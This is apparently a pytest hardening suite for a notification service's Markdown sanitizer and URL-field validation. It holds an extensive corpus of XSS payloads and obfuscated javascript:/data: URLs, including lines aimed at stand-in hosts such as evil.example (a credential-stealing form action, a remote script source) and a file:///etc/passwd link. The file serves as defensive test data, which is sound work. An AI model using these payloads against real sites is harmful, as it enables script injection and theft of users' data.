"""Hardening proof A: hostile content never comes back as active HTML or a dangerous URL.

1. A corpus of XSS payloads is sent as native Markdown `message`s and read back from the
   recipient's inbox; the stored `html` is parsed with an HTML parser (html.parser, not a regex)
   and must hold only allow-listed elements and attributes, no `on*` handler, no `style`, and
   only http/https/mailto (or relative / fragment) URLs.
2. Every URL field of every surface that takes one (native `url`/`iconUrl`, Cord `url`/`iconUrl`,
   Spark `BrowserUri`/`ResourceUri`) accepts absolute http(s) only: anything else is a 4xx in
   that surface's error shape, and nothing is stored.
3. A profile name holding `{{actor}}`/`{{recipient}}` stays literal in rendered headers.
"""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from tests.conftest import Api, auth

# ---- the checker ----------------------------------------------------------------------------------

# Elements Markdown (CommonMark + GFM tables/strikethrough) may produce; nothing else may appear.
SAFE_ELEMENTS = {
    "p", "a", "img", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s", "del",
}
FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "meta", "base",
                      "link", "frame", "frameset", "applet", "input", "button", "textarea", "select", "template",
                      "noscript", "xmp", "video", "audio", "source", "picture", "details", "marquee", "body",
                      "html", "head", "title", "param", "isindex", "animate", "set", "foreignobject"}
assert not SAFE_ELEMENTS & FORBIDDEN_ELEMENTS
# Attributes each element may carry (global ones: none; `title` where Markdown sets it).
SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "title"}, "ol": {"start"}}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background",
                  "cite", "codebase", "dynsrc", "lowsrc", "longdesc", "manifest", "ping", "profile", "usemap"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Whitespace and control characters a browser's URL parser drops or that hide a scheme: C0, DEL,
# C1, and the Unicode spaces / zero-width / bidi / BOM characters.
_INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]")
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value, given as the HTML parser decoded it
    (character references unescaped once, as a browser does: unescaping twice would flag
    `&amp;#106;avascript:`, which a browser reads as a relative URL), after dropping every
    whitespace / control character (anywhere); None for a relative or fragment-only URL."""
    cleaned = _INVISIBLE.sub("", value)
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_comment(self, data):
        self.problems.append(f"comment <!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"declaration <!{decl}>")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data}>")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration {data!r}")

    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = tag.lower()
        self.elements.append((tag, dict(attrs)))
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"forbidden element <{tag}>")
        elif tag not in SAFE_ELEMENTS:
            self.problems.append(f"element outside the allow-list <{tag}>")
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name not in SAFE_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} outside the allow-list on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                candidates = [value]
                if name == "srcset":
                    candidates = [part.strip().split(" ")[0] for part in value.split(",")]
                for url in candidates:
                    scheme = url_scheme(url)
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        self.problems.append(f"{name}={value!r} on <{tag}> has scheme {scheme}:")


def html_problems(fragment: str) -> list[str]:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector.problems


def html_elements(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(fragment)
    collector.close()
    return collector.elements


# The checker itself must catch what it claims to catch (otherwise a passing corpus proves nothing).
CHECKER_MUST_FLAG = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<p onclick=x>a</p>", "<p OnClIcK=x>a</p>",
    '<p style="color:red">a</p>', '<a href="javascript:alert(1)">a</a>', '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>', '<a href="&#x6A;avascript:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a href=" java\tscript:alert(1)">a</a>',
    '<a href="java&NewLine;script:alert(1)">a</a>', '<a href="\x01javascript:x">a</a>',
    '<a href="java\u200bscript:x">a</a>', '<img src="data:text/html,x">', '<img src="vbscript:x">',
    '<img srcset="https://ok/a.png 1x, javascript:alert(1) 2x">', "<svg></svg>", "<math></math>",
    "<iframe></iframe>", "<object></object>", "<embed>", '<form action="https://x"></form>', "<meta>",
    "<base>", "<link>", "<style></style>", "<div>x</div>", "<span>x</span>", "<!-- x -->",
    '<a href="https://ok" target="_blank">x</a>', '<img src="https://ok" width="1">',
]
CHECKER_MUST_PASS = [
    "<p>plain &lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<p><a href="https://example.com/a?b=c#d" rel="noopener noreferrer nofollow">x</a></p>',
    '<p><a href="mailto:a@example.com">m</a> <a href="/rel">r</a> <a href="#frag">f</a></p>',
    '<p><a href="jav%09ascript:alert(1)">relative: % is not a scheme character</a></p>',
    '<p><a href="&amp;#106;avascript:alert(1)">decoded once: the text &#106;avascript:, a relative URL</a></p>',
    '<p><img src="http://example.com/a.png" alt="a" title="t"></p>', '<ol start="3"><li>x</li></ol>',
    "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
]


@pytest.mark.parametrize("fragment", CHECKER_MUST_FLAG, ids=lambda f: repr(f)[:60])
def test_checker_flags_unsafe_html(fragment):
    assert html_problems(fragment), fragment


@pytest.mark.parametrize("fragment", CHECKER_MUST_PASS, ids=lambda f: repr(f)[:60])
def test_checker_passes_safe_html(fragment):
    assert html_problems(fragment) == []


# ---- the corpus -----------------------------------------------------------------------------------

def _cases(word: str) -> list[str]:
    """lower, UPPER and aLtErNaTiNg case."""
    mixed = "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(word))
    return list(dict.fromkeys([word.lower(), word.upper(), mixed]))


PAYLOADS: list[tuple[str, str]] = []


def add(group: str, *messages: str) -> None:
    for message in messages:
        PAYLOADS.append((group, message))


add("script",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">alert(document.cookie)</script>',
    "**<script>**alert(1)**</script>**",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>")

for handler in ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"):
    for spelled in _cases(handler):  # raw HTML, and an attribute smuggled through a Markdown title
        add("handler",
            f'<img src=x {spelled}=alert(1)>\n\n<div {spelled}="alert(1)">x</div>\n\n'
            f'<a href="https://ok.example" {spelled}=alert(1)>x</a>\n\n'
            f'![x](https://ok.example/a.png "t\\" {spelled}=\\"alert(1)") [y](https://ok.example "\\" {spelled}=\\"x")')
add("handler",
    '![a" onerror="alert(1)](https://ok.example/a.png)',
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<x onclick=alert(1)>x</x>",
    "<input onfocus=alert(1) autofocus>", '<img src="x`<script>`" onerror=alert(1)>')

DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
for scheme, rest in (("javascript", "alert(1)"), ("vbscript", "msgbox(1)"), ("data", DATA_HTML[5:])):
    for spelled in _cases(scheme):
        url = f"{spelled}:{rest}"
        add("scheme", f"[a]({url}) ![a]({url}) [b](<{url}>)", f"<{url}>", f"[a][r] ![i][r]\n\n[r]: {url}")
add("scheme",
    "![a](data:image/png;base64,iVBORw0KGgo=)", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](data:image/gif;base64,R0lGOD)", "[a](file:///etc/passwd)", "[a](mailto:javascript:alert(1))",
    "[a](javascript://https://ok.example/%0aalert(1))", "[a](jAvAsCrIpT://%0Aalert(1))",
    "[a](livescript:alert(1))", "[a](mocha:alert(1))", "[a](blob:https://ok.example/x)")

for encoded in ("&#106;avascript:", "&#x6A;avascript:", "&#X6a;avascript:", "&#0000106;avascript:",
                "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58", "jav&#x09;ascript:", "jav&#x0A;ascript:",
                "jav&#x0D;ascript:", "jav&Tab;ascript:", "jav&NewLine;ascript:", "javascript&colon;",
                "javascript&#58;", "javascript&#x3a;", "&#x26;#106;avascript:", "j&#x61;v&#x61;script:"):
    add("entity", f"[a]({encoded}alert(1))\n\n![a]({encoded}alert(1))\n\n<a href=\"{encoded}alert(1)\">x</a>"
                  f"\n\n[b][r]\n\n[r]: {encoded}alert(1)")

for inside in ("java\tscript:", "java\nscript:", "java\rscript:", "java\x00script:", "java\x0bscript:",
               "java\x0cscript:", "\x01javascript:", "\x1fjavascript:", " javascript:", "javascript :",
               "java\u200bscript:", "jav\u00adascript:", "\u202ejavascript:", "\ufeffjavascript:",
               "java\u2028script:", "\u00a0javascript:", "java%09script:", "java%0ascript:", "%6Aavascript:"):
    add("control", f"[a]({inside}alert(1))\n\n<{inside}alert(1)>\n\n![a]({inside}alert(1))")

add("nested",
    "[a]([b](javascript:x))", "[[a](javascript:x)](https://ok.example)", "[a](https://ok.example)(javascript:x)",
    "![[a](javascript:x)](https://ok.example/y.png)", "[![i](https://ok.example/y.png)](javascript:x)",
    "[![i](javascript:x)](https://ok.example)", "[a](<javascript:x> \"t\")", "[a]([b](<javascript:x>))",
    "[a][b][c]\n\n[b]: javascript:x\n[c]: javascript:y", "[a](javascript:x)[b](https://ok.example)")

add("reference",
    "[a][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: <javascript:alert(1)> \"t\"",
    "![i][r]\n\n[r]: data:text/html,x", '[a][r]\n\n[r]: https://ok.example "t" onclick="x"',
    "[a][R]\n\n[r]: JAVASCRIPT:alert(1)", "[a]\n\n[a]:\n  javascript:alert(1)",
    "[a][r]\n\n[r]: vbscript:msgbox(1)", '[a][r]\n\n[r]: https://ok.example "\\"><script>alert(1)</script>"')

add("autolink",
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>", "<mailto:x@ok.example?body=<script>alert(1)</script>>",
    '<https://ok.example/"onmouseover="alert(1)>', "javascript:alert(1)", "www.evil.example",
    "<https://ok.example/\"><script>alert(1)</script>>", "<a@b.c\"onclick=x>")

add("svg",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<SVG ONLOAD="alert(1)">', "![x](https://ok.example/a.svg#<svg onload=alert(1)>)")

add("mathml",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>")

add("css",
    "<style>body{background:url(javascript:alert(1))}</style>", '<div style="width: expression(alert(1))">x</div>',
    "<p style=\"background:url('javascript:alert(1)')\">x</p>", "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", '<STYLE>li {list-style-image: url("javascript:x");}</STYLE>',
    '<span style="behavior: url(x.htc)">x</span>', "| a | b |\n|--:|:-:|\n| 1 | 2 |")

add("embed",
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>', f'<embed src="{DATA_HTML}">', "<applet code=x></applet>",
    '<frameset><frame src="javascript:alert(1)"></frameset>', '<IFRAME SRC="https://evil.example"></IFRAME>',
    '<object><param name="src" value="javascript:alert(1)"></object>')

add("form",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    '<form><input type="submit" formaction="javascript:alert(1)"></form>', "<isindex action=javascript:alert(1)>",
    '<FORM ACTION="https://evil.example/steal"><input name=p></FORM>')

add("meta-base",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">', '<META HTTP-EQUIV="Set-Cookie" Content="x=y">',
    '<meta charset="x-imap4-modified-utf7">')

add("srcset",
    '<img srcset="javascript:alert(1) 1x">', '<picture><source srcset="javascript:alert(1)"></picture>',
    '![a](https://ok.example/y.png) <img srcset="https://ok.example/a.png 1x, javascript:alert(1) 2x">',
    '<img src="https://ok.example/a.png" srcset="data:text/html,x 2x">')

add("raw-html",
    '<a href="javascript:alert(1)">x</a>', "<div>x</div>", "<!-- x --><p>y</p>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>", "<!DOCTYPE html><html><body>x</body></html>",
    "<div>\n\n[a](javascript:x)\n\n</div>", '**bold** <b onmouseover=alert(1)>x</b>',
    '<a href="https://ok.example" target="_blank">x</a>', "<span>x</span>", "<p title=\"<script>\">x</p>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<a/href=\"javascript:alert(1)\">x</a>",
    "<a\nhref=\"javascript:alert(1)\">x</a>", '<a href="javascript&colon;alert(1)">x</a>')

IDS = [f"{group}-{i:03d}-{message[:40]!r}" for i, (group, message) in enumerate(PAYLOADS)]


def _read_back(as_user, user: str) -> dict:
    page = as_user(user).get("/v1/users/me/notifications")
    assert page.status_code == 200, page.body
    [item] = page.data["notifications"]
    return item


# C0 controls other than tab, LF and CR: the edge refuses such a message (rules.check_message).
_MESSAGE_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@pytest.mark.parametrize("group,message", PAYLOADS, ids=IDS)
def test_hostile_markdown_renders_to_safe_html(server, as_user, group, message):
    r = server.post("/v1/notifications", {"recipients": ["bob"], "type": "T", "message": message})
    if _MESSAGE_CONTROL.search(message):  # refused whole, nothing stored
        assert r.status_code == 400 and r.data["error"] == "invalid_message", (r.status_code, r.body)
        assert as_user("bob").get("/v1/users/me/notifications").data["notifications"] == []
        return
    assert r.status_code == 201, (r.status_code, r.body)
    item = _read_back(as_user, "bob")
    assert item["message"] == message  # the Markdown source comes back as sent (it is data, not markup)
    rendered = item["html"]
    assert isinstance(rendered, str)
    problems = html_problems(rendered)
    assert not problems, f"message {message!r} rendered as {rendered!r}: {problems}"


SAFE_LINKS = [
    ("[ok](https://example.com/a?b=c#d)", "a", "href", "https://example.com/a?b=c#d"),
    ("<mailto:alice@example.com>", "a", "href", "mailto:alice@example.com"),
    ("[rel](/inbox/1)", "a", "href", "/inbox/1"),
    ("[frag](#top)", "a", "href", "#top"),
    ("![pic](http://example.com/p.png)", "img", "src", "http://example.com/p.png"),
]


@pytest.mark.parametrize("message,tag,attr,value", SAFE_LINKS, ids=[m for m, *_ in SAFE_LINKS])
def test_safe_links_survive(server, as_user, message, tag, attr, value):
    """Positive control: the sanitizer keeps what is safe, so the corpus's passes are not vacuous."""
    assert server.post("/v1/notifications", {"recipients": ["bob"], "type": "T", "message": message}).status_code \
        == 201
    rendered = _read_back(as_user, "bob")["html"]
    assert html_problems(rendered) == []
    assert (tag, value) in [(t, a.get(attr)) for t, a in html_elements(rendered)], rendered


# ---- URL fields: absolute http(s) only ------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "\x00javascript:alert(1)", "\u00a0javascript:alert(1)",
    "java\u200bscript:alert(1)", "&#106;avascript:alert(1)", DATA_HTML, "data:image/png;base64,iVBORw0KGgo=",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://ok.example/x", "//evil.example/x", "/relative/path",
    "relative/path", "#frag", "https:evil.example", "http://", "mailto:a@example.com", "",
    # absolute in form only: no host, a broken host or port (the bracket and the port were a 500)
    "http://[/", "https://[::1", "http://:80/", "http://@/", "https://ok.example:99999/", "http://ok.example:port/",
    # characters a URL never holds raw: whitespace, C1 controls, bidi overrides, backslash
    "https://a b.example/", "https://ok.example/\u3000x", "https://ex\u0085ample.com/",
    "https://ok.example/\u202egnp.exe", "https://ok.example\\@evil.example/",
]
GOOD_URL = "https://ok.example/path?q=1#f"
SPARK = "/spark/v1/notifications"


class Surfaces:
    """The three surfaces with URL fields: send one URL through a field, read the inbox back."""

    def __init__(self, server: Api, client) -> None:
        self.server = server
        self.spark_bob = Api(client, auth("dev", "bob", ("Private",), application="Hostile App"))
        for uid in ("alice", "bob"):  # Cord refuses unknown actors and recipients
            assert server.put(f"/cord/v1/users/{uid}", {"name": uid}).status_code == 200

    def send(self, surface: str, field: str, value: str):
        if surface == "native":
            return self.server.post("/v1/notifications", {"recipients": ["bob"], "type": "T", "message": "m",
                                                          field: value})
        if surface == "cord":
            body = {"actorID": "alice", "recipientID": "bob", "template": "{{actor}} pinged {{recipient}}",
                    "url": GOOD_URL, "type": "url", field: value}
            return self.server.post("/cord/v1/notifications", body)
        return self.spark_bob.post(SPARK, {"D": {"Type": "General", "Message": "m", field: value}})

    def error_shape_problem(self, surface: str, r) -> str | None:
        """None when `r` is a 4xx in that surface's own error shape."""
        if not 400 <= r.status_code < 500:
            return f"status {r.status_code}"
        d = r.data
        if surface == "native":
            ok = isinstance(d, dict) and set(d) == {"error", "message", "field"}
        elif surface == "cord":
            ok = isinstance(d, dict) and set(d) == {"error", "message"} and d["error"] in (
                "invalid_request", "invalid_field")
        else:
            ok = (isinstance(d, dict) and set(d) == {"D"} and set(d["D"]) == {"Success", "Code", "Message"}
                  and d["D"]["Success"] is False and isinstance(d["D"]["Code"], int))
        return None if ok else f"error shape {d!r}"

    def stored(self) -> dict[str, object]:
        """What bob's inbox holds, seen through each surface and the counters."""
        native = self.server.get("/v1/users/bob/notifications").data["notifications"]
        cord = self.server.get("/cord/v1/users/bob/notifications").data
        spark = self.spark_bob.get(SPARK).data["D"]["Results"]
        unread = self.server.get("/v1/users/bob/notifications/unread-count").data["unreadCount"]
        spark_unread = self.spark_bob.get(f"{SPARK}/unread").data["D"]["Pagination"]["TotalRows"]
        return {"native": native, "cord": cord, "spark": spark, "unread": unread, "spark_unread": spark_unread}


URL_FIELDS = [("native", "url"), ("native", "iconUrl"), ("cord", "url"), ("cord", "iconUrl"),
              ("spark", "BrowserUri"), ("spark", "ResourceUri")]
EMPTY = {"native": [], "cord": [], "spark": [], "unread": 0, "spark_unread": 0}


@pytest.mark.parametrize("value", BAD_URLS, ids=[repr(u)[:40] for u in BAD_URLS])
def test_url_fields_accept_http_s_only(server, client, value):
    """Each surface's URL fields refuse `value` with a 4xx in its own error shape, storing nothing."""
    surfaces = Surfaces(server, client)
    problems = []
    for surface, field in URL_FIELDS:
        r = surfaces.send(surface, field, value)
        problem = surfaces.error_shape_problem(surface, r)
        if problem:
            problems.append(f"{surface} {field}={value!r}: {problem}: {r.body[:300]}")
    stored = surfaces.stored()
    if stored != EMPTY:
        problems.append(f"stored: {stored}")
    assert not problems, "\n".join(problems)


GOOD_URLS = [GOOD_URL, "HTTP://OK.EXAMPLE/", "https://[2001:db8::1]:8443/x", "https://例え.jp/パス?q=ü",
             "https://user@ok.example/a%20b"]


@pytest.mark.parametrize("good", GOOD_URLS)
def test_url_fields_accept_http_s(server, client, good):
    """Positive control: the same requests with an http(s) URL are accepted and the URL comes back."""
    surfaces = Surfaces(server, client)
    for surface, field in URL_FIELDS:
        r = surfaces.send(surface, field, good)
        assert r.status_code in (200, 201), (surface, field, r.body)
    stored = surfaces.stored()
    assert good in {n["url"] for n in stored["native"]} and good in {n["iconUrl"] for n in stored["native"]}
    assert good in {n["iconUrl"] for n in stored["cord"]}
    assert good in {(n["attachment"] or {}).get("url") for n in stored["cord"]}
    assert good in {n["BrowserUri"] for n in stored["spark"]} and good in {n["ResourceUri"] for n in stored["spark"]}
    assert stored["unread"] == 6 and stored["spark_unread"] == 6


@pytest.mark.parametrize("value", ["http://[/", "javascript:alert(1)", "https://a b.example/"])
def test_other_url_fields_refuse(server, value):
    """profilePictureURL (native and Cord user upserts) and attachment.url share the rule."""
    r = server.put("/v1/users/carol", {"name": "c", "profilePictureURL": value})
    assert r.status_code == 400 and r.data["field"] == "profilePictureURL", r.body
    r = server.put("/cord/v1/users/carol", {"name": "c", "profilePictureURL": value})
    assert r.status_code == 400 and set(r.data) == {"error", "message"}, r.body
    assert server.get("/v1/users/carol").status_code == 404  # neither upsert created the user
    r = server.post("/v1/notifications", {"recipients": ["bob"], "type": "T", "message": "m",
                                          "attachment": {"type": "url", "url": value}})
    assert r.status_code == 400 and r.data["field"] == "attachment.url", r.body
    assert server.get("/v1/users/bob/notifications").data["notifications"] == []


# ---- profile names are data, never templates ------------------------------------------------------

NAMES = ["{{actor}} <script>", "{{recipient}}", "{{ actor }}{{recipient}}", "{{actor}}{{actor}}",
         "{{unknown}} {{", "<img src=x onerror=alert(1)> {{recipient}}"]


@pytest.mark.parametrize("name", NAMES)
def test_profile_names_stay_literal_in_headers(server, as_user, name):
    for uid in ("alice", "bob"):
        r = server.put(f"/v1/users/{uid}", {"name": name})
        assert r.status_code in (200, 201), r.body
        assert r.data["name"] == name
    r = server.post("/v1/notifications", {"recipients": ["bob"], "type": "T", "actor": "alice",
                                          "template": "{{actor}} pinged {{recipient}}", "message": "hi {{actor}}"})
    assert r.status_code == 201, r.body
    item = _read_back(as_user, "bob")
    users = [node for node in item["header"] if node["type"] == "user"]
    texts = [node["text"] for node in item["header"] if node["type"] == "text"]
    assert [(u["user"]["id"], u["user"]["name"]) for u in users] == [("alice", name), ("bob", name)], item["header"]
    assert texts == [" pinged "], item["header"]
    assert item["message"] == "hi {{actor}}" and "{{actor}}" in item["html"]  # the message is not templated
    # The same header through Cord's listing (another surface over the same data).
    [cord_item] = server.get("/cord/v1/users/bob/notifications").data
    assert [n["user"]["name"] for n in cord_item["header"] if n["type"] == "user"] == [name, name]
